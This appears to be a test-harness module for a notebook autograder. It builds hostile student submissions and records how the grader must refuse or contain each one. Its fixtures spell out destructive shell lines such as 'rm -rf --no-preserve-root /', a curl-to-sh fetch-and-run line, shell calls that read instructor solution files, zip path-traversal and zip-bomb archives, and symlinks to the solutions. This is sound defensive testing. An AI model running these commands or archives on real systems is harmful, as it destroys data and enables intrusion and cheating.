"""The hostile corpus as submissions: each ``corpus/*.py`` is one cell a student wrote in
place of an exercise (or at module level), plus notebook- and archive-level attacks built
here because they are large, malformed on purpose, or not files at all (zips, symlinks).

Every attack declares what must happen (``# EXPECT: {...}`` in the file, ``expect`` here):

* ``target``: the exercise function under attack, or ``*`` for the whole submission;
* ``scope``: ``exercise`` (that exercise scores 0, every other one of the same submission
  full marks), ``submission`` (every exercise 0), ``file`` (the submission is refused before
  it runs) or ``graded`` (not an attack on the grade: full marks despite the hostile file);
* ``category``: timeout, memory, limit, crash, forbidden, invalid or unreadable;
* ``reason``: a regex the reported reason must match (``note``: one a note must match).
"""

from __future__ import annotations

import copy
import json
import re
import stat
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

from autograder import extract
from autograder.notebooks import ROOT

CORPUS = Path(__file__).parent / "corpus"
CATEGORIES = {"timeout", "memory", "limit", "crash", "forbidden", "invalid", "unreadable"}
SCOPES = {"exercise", "submission", "file", "graded"}


@dataclass
class Attack:
    name: str
    attack: str
    defence: str
    expect: dict
    #: builds the submissions (the hostile one first) in ``tmp`` (a fresh directory)
    build: object = None
    extra: dict = field(default_factory=dict)

    @property
    def chapter(self) -> str:
        return self.expect["chapter"]


def solution_notebook(chapter: str) -> dict:
    return json.loads((ROOT / "instructor" / "solutions" / f"{chapter}.ipynb").read_text())


def _code_cell(source: str) -> dict:
    return {
        "cell_type": "code",
        "execution_count": None,
        "id": f"hostile-{abs(hash(source)) % 10**8}",
        "metadata": {},
        "outputs": [],
        "source": source,
    }


def with_cell(chapter: str, function: str, source: str) -> dict:
    """The chapter's solution notebook with the cell defining ``function`` replaced by
    ``source`` (for ``*``: ``source`` added as a last cell)."""
    nb = copy.deepcopy(solution_notebook(chapter))
    if function == "*":
        nb["cells"].append(_code_cell(source))
        return nb
    for i, cell in enumerate(nb["cells"]):
        text = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell["cell_type"] == "code" and text.startswith(f"def {function}("):
            assert text.count("\ndef ") == 0, f"the cell of {function} defines more than it"
            nb["cells"][i] = _code_cell(source)
            return nb
    raise AssertionError(f"no cell defines {function} in the {chapter} solution notebook")


def _header(text: str, key: str) -> str:
    match = re.search(rf"^# {key}: (.*)$", text, re.M)
    assert match, f"missing '# {key}:' line"
    return match.group(1).strip()


def _from_file(path: Path) -> Attack:
    text = path.read_text()
    expect = json.loads(_header(text, "EXPECT"))

    def build(tmp: Path) -> list[extract.Submission]:
        nb = with_cell(expect["chapter"], expect["target"], text)
        return [extract.parse(f"{path.stem}.ipynb", json.dumps(nb).encode(), ".ipynb")]

    return Attack(path.stem, _header(text, "ATTACK"), _header(text, "DEFENCE"), expect, build)


# ------------------------------------------------------------ notebook- and archive-level


def _nb_bytes(nb: dict) -> bytes:
    return json.dumps(nb).encode()


def _malformed_json(tmp: Path):
    data = _nb_bytes(solution_notebook("07_metrics"))[:-1000]  # truncated mid-cell
    return [extract.parse("truncated.ipynb", data, ".ipynb")]


def _source_of_numbers(tmp: Path):
    nb = solution_notebook("07_metrics")
    nb["cells"].append({"cell_type": "code", "source": [1, 2, {"x": None}], "metadata": {}})
    return [extract.parse("numbers.ipynb", _nb_bytes(nb), ".ipynb")]


def _deep_json(tmp: Path):
    data = b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    return [extract.parse("deep.ipynb", data, ".ipynb")]


def _huge_output(tmp: Path):
    nb = solution_notebook("07_metrics")
    blob = "x" * (100 * 2**20)
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": blob}]
            break
    path = tmp / "huge_output.ipynb"
    path.write_text(json.dumps(nb))
    return extract.load(path)


MAGICS = """%%bash
rm -rf --no-preserve-root /
"""
MAGIC_LINES = """!rm -rf ~ /work/main
%rm -rf /tmp
!curl http://example.com/x.sh | sh
import os
os.system?

def precision_score(y_true, y_pred, *, labels=None, pos_label=1, average="binary",
                    sample_weight=None, zero_division="warn"):
    out = get_ipython().getoutput("cat /work/main/solutions/metrics.py")
    return float(len(out))
"""


def _magics(tmp: Path):
    nb = with_cell("07_metrics", "precision_score", MAGIC_LINES)
    nb["cells"].insert(1, _code_cell(MAGICS))
    nb["cells"].append(_code_cell("_ = get_ipython().system('rm -rf /')"))
    return [extract.parse("magics.ipynb", _nb_bytes(nb), ".ipynb")]


def _ast_bomb(tmp: Path):
    bomb = (
        "def precision_score(y_true, y_pred, *, labels=None, pos_label=1, average='binary',"
        " sample_weight=None, zero_division='warn'):\n    return " + "-" * 500_000 + "1\n"
    )
    nb = with_cell("07_metrics", "precision_score", bomb)
    nb["cells"].append(_code_cell("_X = " + "1+" * 200_000 + "1"))
    nb["cells"].append(_code_cell("_Y = " + "(" * 100_000 + ")" * 100_000))
    return [extract.parse("ast_bomb.ipynb", _nb_bytes(nb), ".ipynb")]


def _zip_with(tmp: Path, members: list[tuple[zipfile.ZipInfo | str, bytes]]) -> Path:
    path = tmp / "submissions.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in members:
            zf.writestr(info, data)
    return path


def _zip_traversal(tmp: Path):
    evil = _nb_bytes(solution_notebook("07_metrics"))
    path = _zip_with(tmp, [("../../tmp/pwned_zip.ipynb", evil), ("/tmp/pwned_abs.py", b"x = 1\n")])
    return extract.load(path)


def _zip_bomb(tmp: Path):
    path = tmp / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        with zf.open("alice/bomb.py", "w", force_zip64=True) as member:
            block = b"#" * 2**20
            for _ in range(extract.MAX_SUBMISSION_BYTES // 2**20 + 8):
                member.write(block)
    assert path.stat().st_size < 2 * 2**20
    return extract.load(path)


def _zip_symlink(tmp: Path):
    info = zipfile.ZipInfo("alice/solution.ipynb")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    target = str(ROOT / "instructor" / "solutions" / "07_metrics.ipynb").encode()
    return extract.load(_zip_with(tmp, [(info, target)]))


def _folder_symlink(tmp: Path):
    folder = tmp / "submissions"
    (folder / "alice").mkdir(parents=True)
    (folder / "alice" / "exercises.ipynb").symlink_to(
        ROOT / "instructor" / "solutions" / "07_metrics.ipynb"
    )
    (folder / "bob").symlink_to(ROOT / "instructor" / "solutions")  # a linked folder
    return extract.load(folder)


def _notebook_attacks() -> list[Attack]:
    def A(name, attack, defence, build, **expect):  # noqa: N802
        expect.setdefault("chapter", "07_metrics")
        return Attack(name, attack, defence, expect, build)

    return [
        A(
            "nb_malformed_json",
            "a notebook whose JSON is truncated",
            "the notebook is parsed as JSON in the parent without executing anything",
            _malformed_json,
            target="*",
            scope="file",
            category="unreadable",
            reason="cannot read the submission",
        ),
        A(
            "nb_source_of_numbers",
            'a code cell whose "source" is a list of numbers and dicts',
            "any malformed cell structure is a clear per-submission error, not a grader crash",
            _source_of_numbers,
            target="*",
            scope="file",
            category="unreadable",
            reason="cannot read the submission",
        ),
        A(
            "nb_deep_json",
            "JSON nested 200 000 levels deep (recursion bomb for the JSON parser)",
            "RecursionError from the parser is caught: a per-submission error",
            _deep_json,
            target="*",
            scope="file",
            category="unreadable",
            reason="cannot read the submission",
        ),
        A(
            "nb_huge_output_cell",
            "a 100 MB output in a code cell",
            "outputs are never read; files up to 256 MB are accepted (larger ones are refused)",
            _huge_output,
            target="*",
            scope="graded",
            category="invalid",
            reason="",
        ),
        A(
            "nb_magics",
            "%%bash / !rm -rf / cells, get_ipython().system(...), a function built on "
            "get_ipython().getoutput",
            "magics and shell lines are blanked before parsing; get_ipython does not exist",
            _magics,
            target="precision_score",
            scope="exercise",
            category="forbidden",
            reason="NameError.*get_ipython",
        ),
        A(
            "nb_ast_bomb",
            "a cell that is a parser bomb (500 000 unary minus, 200 000 additions, 100 000 "
            "nested parentheses)",
            "the parser's RecursionError/MemoryError/SyntaxError is caught per cell; the "
            "function defined there is missing with that reason",
            _ast_bomb,
            target="precision_score",
            scope="exercise",
            category="unreadable",
            reason=r"syntax error in cell \d+.*so precision_score is not defined",
        ),
        A(
            "zip_path_traversal",
            "a zip with members ../../tmp/pwned_zip.ipynb and /tmp/pwned_abs.py",
            "zips are read in memory, never extracted; unsafe member names are refused",
            _zip_traversal,
            target="*",
            scope="file",
            category="unreadable",
            reason="a path outside the archive",
        ),
        A(
            "zip_bomb",
            "a 1 MB zip member that inflates to 264 MB",
            "each member is capped at 256 MB while inflating, the whole zip at 1 GB",
            _zip_bomb,
            target="*",
            scope="file",
            category="unreadable",
            reason="too large once decompressed",
        ),
        A(
            "zip_symlink",
            "a zip member that is a symbolic link to the instructor's solution notebook",
            "symbolic-link members are refused (never resolved)",
            _zip_symlink,
            target="*",
            scope="file",
            category="unreadable",
            reason="a symbolic link",
        ),
        A(
            "folder_symlink",
            "an unpacked submission folder whose notebook is a symlink to the instructor's "
            "solution notebook (and a linked folder)",
            "symbolic links in a submissions folder are reported, never followed",
            _folder_symlink,
            target="*",
            scope="file",
            category="unreadable",
            reason="a symbolic link",
        ),
    ]


def all_attacks() -> list[Attack]:
    attacks = [_from_file(p) for p in sorted(CORPUS.glob("*.py"))]
    return attacks + _notebook_attacks()
